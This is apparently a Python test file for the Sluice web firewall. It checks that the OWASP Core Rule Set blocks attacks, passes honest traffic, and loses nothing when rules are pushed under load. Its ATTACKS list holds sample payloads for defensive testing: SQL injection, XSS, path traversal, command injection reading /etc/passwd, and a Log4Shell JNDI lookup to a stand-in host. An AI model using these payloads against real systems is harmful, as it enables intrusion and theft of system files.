# SPDX-License-Identifier: Apache-2.0
# Copyright the Sluice authors
"""The OWASP Core Rule Set of the Debian package, unmodified, beside our own signatures, in line.

In the long form, with SLUICE_SHARED (a folder with corpora/crs-3.3.4 and tools/crs_replay.py) its regression requests
go through the wire too; they are not part of this project.
"""

import json
import os
import pathlib
import re
import time

from lab import SERVER4, Lab, check, figure, main, short_form, wait_for

CRS = """
SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\\+|/)|text/)xml" \\
  "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/json" \\
  "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecResponseBodyAccess On
SecResponseBodyMimeType text/plain text/html application/json
Include /etc/modsecurity/crs/crs-setup.conf
%s
Include /usr/share/modsecurity-crs/rules/*.conf
"""
POLICY = """
mode: %s
rules: {{ include: ["{home}/rules.conf", "{source}/signatures/*.conf"] }}
services:
  - name: web
    addresses: [{server4}, "{server6}"]
    ports: [80]
"""
ATTACKS = ("/?id=1%27%20or%20%271%27=%271%27--", "/?q=<script>alert(1)</script>",
           "/?f=../../../../etc/passwd", "/?c=;cat%20/etc/passwd", "/?x=${jndi:ldap://evil/a}")
HONEST = ("/", "/index.html?page=2&sort=price", "/index.html?name=Smith&city=Berlin", "/1k.bin")
HEADERS = ("-H", "Accept: */*", "-H", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "-H",
           "Host: shop.example")


def blocks_attacks_and_passes_honest_requests():
    with Lab("crs", rules=CRS % "", policy=POLICY % "block", guarded=False) as lab:
        pushed = lab.push()
        figure("compile the CRS and our signatures", pushed["compile_ms"], "ms")
        figure("publish", pushed["publish_ms"], "ms")
        figure("rules", pushed["rules"])
        for target in HONEST:
            status, body = lab.curl(target, "-o", lab.home / "answer", *HEADERS)
            check(status == 200, f"{target}: {status} {body[:200]}")
        for target in ATTACKS:
            status, body = lab.curl(target, *HEADERS)
            check(status == 403, f"{target}: {status}")
            event = json.loads(body)["event_id"]
            record = wait_for(lambda: next((e for e in lab.events("alert")
                                            if e["sluice"]["event_id"] == event), None), 5, target)
            check(any(900000 <= r["id"] < 1000000 for r in record["alert"]["rules"]),
                  f"{target}: no rule of the CRS in {record['alert']['rules']}")
        again = lab.push()
        figure("compile again", again["compile_ms"], "ms")
        check(again["compile_ms"] < 3000, f"the second compile took {again['compile_ms']} ms")


def a_push_under_load_loses_nothing():
    with Lab("crsload", rules=CRS % "", policy=POLICY % "block", guarded=False) as lab:
        lab.push()
        before = lab.ctl_json("counters")
        wrk = lab.start("client", "wrk", "-t1", "-c8", "-d8s", "-H", HEADERS[3], "-H", HEADERS[5],
                        f"http://{SERVER4}/index.html", log="wrk.log")
        pushes = 0
        while wrk.poll() is None:
            lab.push()
            pushes += 1
            time.sleep(0.5)
        text = (lab.home / "wrk.log").read_text()
        figure("pushes of the CRS under load", pushes)
        figure("requests", re.search(r"(\d+) requests in", text).group(1))
        check(pushes >= 2, "no push fell into the load")
        check("Non-2xx" not in text and "Socket errors" not in text, f"requests failed: {text}")
        after = lab.ctl_json("counters")
        for name in ("tx_full", "steer_full", "worker_memory", "flow_full"):
            lost = [c.get("drops", {}).get(name, 0) for c in (before, after)]
            check(lost[0] == lost[1], f"{name}: {lost}")


def regression_requests_through_the_wire():
    shared = pathlib.Path(os.environ["SLUICE_SHARED"])
    tool, suite = shared / "tools/crs_replay.py", shared / "corpora/crs-3.3.4"
    setup = "SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=4\"\n"
    policy = POLICY.replace(', "{source}/signatures/*.conf"', "") % "monitor"
    extra = "events: { request_headers: [x-crs-test] }\n"
    with Lab("crswire", rules=CRS.replace("SecRuleEngine On", "SecRuleEngine DetectionOnly") % setup,
             policy=policy, extra=extra, guarded=False) as lab:
        lab.push()
        done = lab.client("/usr/bin/python3", tool, "--tests", suite, "--host", SERVER4, "--port", 80,
                          "--log", lab.home / "log/eve.json", "--marker-header", "X-CRS-Test",
                          "--rules", "/usr/share/modsecurity-crs/rules", "--pl", 4, check=False,
                          timeout=900)
        print("\n".join(done.stdout.splitlines()[-15:]), flush=True)
        total = re.search(r"^ALL +(\d+) +(\d+)", done.stdout, re.MULTILINE)
        check(total, f"no total: {done.stdout[-500:]}{done.stderr[-500:]}")
        share = int(total.group(2)) / int(total.group(1))
        figure("expectations met through the wire", f"{share:.1%}")
        check(share >= 0.98, f"only {share:.1%}")


if __name__ == "__main__":
    main(blocks_attacks_and_passes_honest_requests, a_push_under_load_loses_nothing,
         *([regression_requests_through_the_wire]
           if "SLUICE_SHARED" in os.environ and not short_form() else []))
